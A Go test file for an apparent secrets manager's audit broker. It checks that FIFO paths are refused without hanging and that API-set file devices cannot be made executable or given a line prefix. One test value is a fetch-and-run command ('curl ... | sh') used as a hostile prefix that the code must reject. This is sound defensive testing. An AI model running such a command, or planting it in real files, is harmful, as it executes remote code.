//go:build unix

package audit

import (
	"context"
	"errors"
	"path/filepath"
	"syscall"
	"testing"
	"time"

	"github.com/cofferhq/coffer/internal/logical"
)

// TestFileDeviceRefusesFIFO: a file_path naming a FIFO is refused at once,
// whether a reader is there or not. Opening one for writing used to block
// until a reader came, with the broker's lock held, so sys/audit, SIGHUP
// and sealing hung behind an enable that never returned.
func TestFileDeviceRefusesFIFO(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	fifo := filepath.Join(t.TempDir(), "fifo")
	if err := syscall.Mkfifo(fifo, 0o600); err != nil {
		t.Skip("no FIFOs here:", err)
	}
	b, err := Open(ctx, BrokerConfig{Storage: logical.NewInmemStorage()})
	if err != nil {
		t.Fatal(err)
	}
	// No deferred Close: after a hang it would wait for the lock forever.
	for _, chain := range []string{"true", "false"} {
		done := make(chan error, 1)
		go func() {
			done <- b.Enable(ctx, Config{Path: "fifo-" + chain, Type: "file", Options: map[string]string{"file_path": fifo, "hash_chain": chain}})
		}()
		select {
		case err := <-done:
			if !errors.Is(err, ErrInvalidConfig) {
				t.Fatalf("hash_chain=%s: enabling a FIFO: %v", chain, err)
			}
		case <-time.After(5 * time.Second):
			t.Fatalf("hash_chain=%s: enabling a FIFO with no reader still blocks", chain)
		}
	}
	if got := b.List(); len(got) != 0 {
		t.Fatalf("devices enabled: %v", got)
	}
	if err := b.Close(); err != nil {
		t.Fatal(err)
	}
}

// TestFileDeviceNeverAProgram: as in Vault since CVE-2025-6000, a file
// device may not be made executable, and its prefix (text at the start of
// every line) is not set through the API: with both, a sudo token could
// write a script, or a line a shell profile runs, anywhere the server may
// write.
func TestFileDeviceNeverAProgram(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	dir := t.TempDir()
	b, err := Open(ctx, BrokerConfig{Storage: logical.NewInmemStorage()})
	if err != nil {
		t.Fatal(err)
	}
	defer b.Close()
	for name, opts := range map[string]map[string]string{
		"mode 0755": {"file_path": filepath.Join(dir, "a.sh"), "mode": "0755"},
		"mode 0610": {"file_path": filepath.Join(dir, "b.sh"), "mode": "0610"},
		"prefix":    {"file_path": filepath.Join(dir, "profile.sh"), "prefix": "curl example.invalid | sh #"},
	} {
		if err := b.Enable(ctx, Config{Path: filepath.Base(opts["file_path"]), Type: "file", Options: opts}); !errors.Is(err, ErrInvalidConfig) {
			t.Errorf("%s: %v", name, err)
		}
	}
	// The configuration may still set a prefix.
	d, err := Open(ctx, BrokerConfig{Storage: logical.NewInmemStorage(), Declared: []Config{{Path: "main", Type: "file",
		Options: map[string]string{"file_path": filepath.Join(dir, "main.log"), "prefix": "AUDIT "}}}})
	if err != nil {
		t.Fatal(err)
	}
	if err := d.LogRequest(ctx, &Input{Request: &logical.Request{ID: "1", Operation: logical.ReadOperation, Path: "x"}}); err != nil {
		t.Fatalf("a declared device with a prefix: %v", err)
	}
	_ = d.Close()
}
